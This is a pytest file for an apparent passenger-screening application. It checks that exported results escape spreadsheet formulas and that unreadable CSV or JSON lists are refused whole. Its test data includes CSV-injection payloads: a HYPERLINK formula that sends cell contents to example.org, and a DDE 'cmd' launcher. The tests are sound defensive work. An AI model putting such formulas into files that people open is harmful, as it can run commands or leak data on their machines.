"""Passenger lists: results that a spreadsheet cannot run, and lists that cannot be read refused whole."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from polnet import cli as polnet_cli
from polnet.screening.batches import files as batch_files
from polnet.screening.batches import input as batch_input
from polnet.screening.batches import runs as batches
from polnet.screening.models import Hit, ScreeningBatch
from tests.factories import Network, make_record, signed_in_client
from tests.jobs.drive import run_jobs

# Names a spreadsheet would run (a name needs a letter: "-1+1" alone is refused, not echoed).
FORMULAS = ['=HYPERLINK("https://example.org/?"&A1,"open")', "+cmd|' /C calc'!A0", "-1+1 A", "@SUM(1+1)"]


def _passengers_csv(names: list[str]) -> bytes:
    out = io.StringIO(newline="")
    rows = csv.writer(out)
    rows.writerow(["name", "date_of_birth", "document_number"])
    rows.writerows([name, "1974-08-12", name] for name in names)
    return out.getvalue().encode()


def _finished(batch_id: int) -> ScreeningBatch:
    """The list once a job worker has run every job waiting."""
    run_jobs()
    return ScreeningBatch.objects.get(pk=batch_id)


@pytest.mark.django_db(transaction=True)
def test_the_results_of_a_list_write_formulas_as_text_and_still_resume(net: Network) -> None:
    make_record(net.actor("FR-officer"), "person")  # Ivan Ivanov, born 1974-08-12
    client = signed_in_client(net.users["DE-unit-full"])
    upload = io.BytesIO(_passengers_csv([*FORMULAS, "Ivan Ivanov"]))
    upload.name = "list.csv"

    r = client.post("/api/screening/batches?purpose=border_management", {"file": upload})

    assert r.status_code == 202, r.content
    batch = _finished(r.json()["id"])
    assert batch.status == "done", batch.error
    results = client.get(f"/api/screening/batches/{batch.pk}/results.csv")
    written = list(csv.DictReader(io.StringIO(b"".join(results.streaming_content).decode())))  # type: ignore[attr-defined]
    assert [row["name"] for row in written] == [f"'{f}" for f in FORMULAS] + ["Ivan Ivanov"]
    assert [row["document_number"] for row in written[:4]] == [f"'{f}" for f in FORMULAS]
    assert [row["row"] for row in written] == ["1", "2", "3", "4", "5"]
    # The file is also the record of the rows done: read back, it counts them all.
    assert batch_files.completed_rows(batch_files.results_path(batch.pk)) == (5, 1)


@pytest.mark.django_db
def test_polnet_screen_file_writes_formulas_as_text(net: Network, tmp_path: Path) -> None:
    passengers = tmp_path / "passengers.csv"
    passengers.write_bytes(_passengers_csv(FORMULAS))
    out = tmp_path / "results.csv"

    result = CliRunner().invoke(
        polnet_cli.app,
        [
            "screen",
            "--as",
            "de-unit-full",
            "--purpose",
            "border_management",
            "--file",
            str(passengers),
            "--out",
            str(out),
        ],
    )

    assert result.exit_code == 0, result.output
    written = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [row["name"] for row in written] == [f"'{f}" for f in FORMULAS]


LONG = "x" * 131_073  # one more character than the csv module reads in a field
DEEP = "[" * 50_000 + "]" * 50_000


def _nothing_queued(data_dir: Path) -> None:
    assert not ScreeningBatch.objects.exists()
    assert not any((data_dir / "batches").glob("*")), "the rows read before the failure stay on disk"


def _post_list(client: Any, content: bytes, name: str) -> Any:
    upload = io.BytesIO(content)
    upload.name = name
    return client.post("/api/screening/batches?purpose=border_management", {"file": upload})


@pytest.mark.parametrize(
    ("content", "name", "detail"),
    [
        (
            b"name,notes\nAnna Berg,\nCarl Dahl,\nEva Ek," + LONG.encode() + b"\n",
            "list.csv",
            "Row 3 of the list (line 4 of the CSV) cannot be read: "
            "a value is longer than 131,072 characters.",
        ),
        (
            b"name\nAnna Berg\n" + b"x" * 401 + b"\n",
            "list.csv",
            "Row 2 of the list (line 3 of the CSV): name is longer than 400 characters.",
        ),
        (
            b"name\nAnna Berg\nCarl\x00Dahl\n",
            "list.csv",
            "Row 2 of the list (line 3 of the CSV): name holds a control character.",
        ),
        (b"name\nAnna Berg\nCarl Dahl\xff\n", "list.csv", "The CSV file must be UTF-8: line 3 is not."),
        (b'[{"name": "Anna Berg"}, ' + DEEP.encode() + b"]", "list.json", "it is nested too deeply"),
        (
            b'[{"name": "Anna Berg"}, "Carl Dahl"]',
            "list.json",
            "Row 2 of the list is not a passenger object.",
        ),
        (
            b'[{"name": "Anna Berg"}, {"name": ["Carl"]}]',
            "list.json",
            "Row 2 of the list: name must be text.",
        ),
        (
            b'[{"name": "Anna Berg"}, {"dob": ' + b"1" * 5000 + b"}]",
            "list.json",
            "a number in it is too long",
        ),
        (
            b'[{"name": "Anna Berg"},\n{"name": "Carl\xff"}]',
            "list.json",
            "The JSON file must be UTF-8: line 2",
        ),
    ],
    ids=[
        "csv-field-limit",
        "long-value",
        "nul",
        "csv-encoding",
        "deep-json",
        "not-object",
        "not-text",
        "long-number",
        "json-encoding",
    ],
)
@pytest.mark.django_db(transaction=True)
def test_a_list_that_cannot_be_read_is_refused_whole_with_where_and_why(
    net: Network, settings: Any, tmp_path: Path, content: bytes, name: str, detail: str
) -> None:
    settings.DATA_DIR = tmp_path
    client = signed_in_client(net.users["DE-unit-full"])

    r = _post_list(client, content, name)

    assert r.status_code == 422, r.content
    body = r.json()
    assert body["error"] == "invalid" and body["field"] in ("file", "rows") and detail in body["detail"]
    _nothing_queued(tmp_path)


@pytest.mark.django_db(transaction=True)
def test_the_check_page_says_which_row_of_a_refused_list_and_queues_nothing(
    net: Network, settings: Any, tmp_path: Path
) -> None:
    settings.DATA_DIR = tmp_path
    client = signed_in_client(net.users["DE-unit-full"])
    upload = io.BytesIO(b"name,notes\nAnna Berg,\nCarl Dahl,\nEva Ek," + LONG.encode() + b"\n")
    upload.name = "list.csv"

    client.cookies["django_language"] = "fr"
    r = client.post(
        "/check/batches/", {"purpose": "border_management", "file": upload, "location": "Frankfurt"}
    )

    assert r.status_code == 422
    assert "La ligne 3 de la liste contient une valeur trop longue." in r.content.decode()
    _nothing_queued(tmp_path)


@pytest.mark.django_db(transaction=True)
def test_a_list_whose_reading_breaks_off_leaves_nothing_behind(
    net: Network, settings: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever stops the reading (here a full disk), the rows read so far are not kept."""
    settings.DATA_DIR = tmp_path

    def two_rows_then_a_full_disk(content: bytes, content_type: str) -> Iterator[dict[str, str]]:
        yield from batch_input.parse_rows(b"name\nAnna Berg\nCarl Dahl\n", "text/csv")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(batches, "parse_rows", two_rows_then_a_full_disk)
    with pytest.raises(OSError, match="No space left"):
        batches.start_batch(net.actor("DE-unit-full"), b"", "text/csv", purpose="border_management")
    _nothing_queued(tmp_path)


def test_a_csv_with_old_mac_line_ends_is_read_row_by_row() -> None:
    mrz = "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<\nL898902C36UTO7408122F1204159ZE184226B<<<<<10"
    text = f'name,dob,mrz\rAnna Berg,1990,"{mrz}"\rCarl Dahl,1991,\r'
    rows = list(batch_input.parse_rows(text.encode(), "text/csv"))
    assert [(r["name"], r["date_of_birth"]) for r in rows] == [("Anna Berg", "1990"), ("Carl Dahl", "1991")]
    assert rows[0]["mrz"] == mrz  # a line break in a value is no control character to refuse


@pytest.mark.django_db
def test_polnet_screen_file_refuses_a_list_it_cannot_read_and_writes_nothing(
    net: Network, tmp_path: Path
) -> None:
    passengers = tmp_path / "passengers.json"
    passengers.write_text('{"rows": ' + DEEP + "}")
    out = tmp_path / "results.csv"

    result = CliRunner().invoke(
        polnet_cli.app,
        [
            "screen",
            "--as",
            "de-unit-full",
            "--purpose",
            "border_management",
            "--file",
            str(passengers),
            "--out",
            str(out),
        ],
    )

    assert result.exit_code == 2
    assert "The JSON is not valid: it is nested too deeply." in result.output
    assert not out.exists()


@pytest.mark.django_db(transaction=True)
def test_a_list_that_fails_while_checked_says_where_keeps_its_hits_and_deletes_its_files(
    net: Network, settings: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.DATA_DIR = tmp_path
    make_record(net.actor("FR-officer"), "person")  # Ivan Ivanov, born 1974-08-12
    real_check = batches.check_row

    def check_until_the_database_goes(actor: Any, row: dict[str, str], *args: Any) -> dict[str, Any]:
        if row["name"] == "Carl Dahl":
            raise RuntimeError("the database went away")
        return real_check(actor, row, *args)

    monkeypatch.setattr(batches, "check_row", check_until_the_database_goes)
    rows = b"name,date_of_birth\nAnna Berg,1990\nIvan Ivanov,1974-08-12\nCarl Dahl,1991\nEva Ek,1992\n"

    batch = _finished(
        batches.start_batch(net.actor("DE-unit-full"), rows, "text/csv", purpose="border_management").pk
    )

    assert (batch.status, batch.done, batch.hit_count) == ("failed", 2, 1)
    assert batch.error == (
        "Checking stopped at row 3: the database went away. The hits found before it stay in the hit list."
    )
    assert Hit.objects.filter(batch=batch).count() == 1
    assert not any((tmp_path / "batches").glob("*"))
    client = signed_in_client(net.users["DE-unit-full"])
    client.cookies["django_language"] = "fr"
    page = client.get(f"/check/batches/{batch.pk}/").content.decode()
    assert "La vérification s'est arrêtée à la ligne 3." in page and "the database went away" in page
